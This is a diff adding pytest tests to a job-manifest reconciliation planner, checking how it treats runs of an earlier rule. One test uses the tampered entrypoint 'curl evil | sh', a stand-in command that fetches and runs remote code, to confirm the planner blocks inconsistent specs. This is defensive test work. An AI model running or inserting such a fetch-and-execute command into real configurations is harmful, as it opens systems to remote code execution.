@@ -5,10 +5,14 @@ from __future__ import annotations
 from pathlib import Path
 
 import pytest
+from msgspec.structs import replace
 
 from jobspec.manifest.load import LoadRequest, load
 from jobspec.manifest.resolve import quick
 from jobspec.manifest.task import Task
+from jobspec.reconcile.planning.plan import Action, BlockReason
+from jobspec.reconcile.tags import Marks
+from tests.reconcile.world import only, planned, run
 
 PROJECT = """\
 apiVersion: jobspec/v1
@@ -113,3 +117,27 @@ def test_what_no_earlier_release_accepted_has_one_hash(spec: str, tmp_path: Path
     task = loaded(tmp_path, None, f"{head}spec:\n  {spec}\n")["a"]
     assert len(task.fingerprint.specs) == 1
     assert task.earlier is None
+
+
+@pytest.mark.parametrize("state", ["Running", "Success"])
+def test_nothing_is_planned_for_a_run_of_the_earlier_rule(state: str, tmp_path: Path) -> None:
+    own = loaded(tmp_path, None)["own"]
+    one = run(own, state)
+    assert isinstance(one.marks, Marks)
+    assert own.earlier is not None
+    before = replace(one, marks=replace(one.marks, spec=EARLIER[None]["own"]), spec=dict(own.earlier))
+    found = only(planned([own], [before]))
+    assert (found.action, found.blocked) == (Action.NONE, None)
+    assert "runs without the items that its lists inherit" in found.detail
+    now = only(planned([own], [replace(one, spec=dict(own.payload))]))
+    assert (now.action, now.detail) == (Action.NONE, "")
+
+
+def test_a_run_of_the_earlier_rule_that_runs_something_else_is_inconsistent(tmp_path: Path) -> None:
+    own = loaded(tmp_path, None)["own"]
+    one = run(own, "Running")
+    assert isinstance(one.marks, Marks)
+    assert own.earlier is not None
+    other = {**own.earlier, "EntrypointPath": "curl evil | sh"}
+    copied = replace(one, marks=replace(one.marks, spec=EARLIER[None]["own"]), spec=other)
+    assert only(planned([own], [copied])).blocked == BlockReason.INCONSISTENT_TAGS
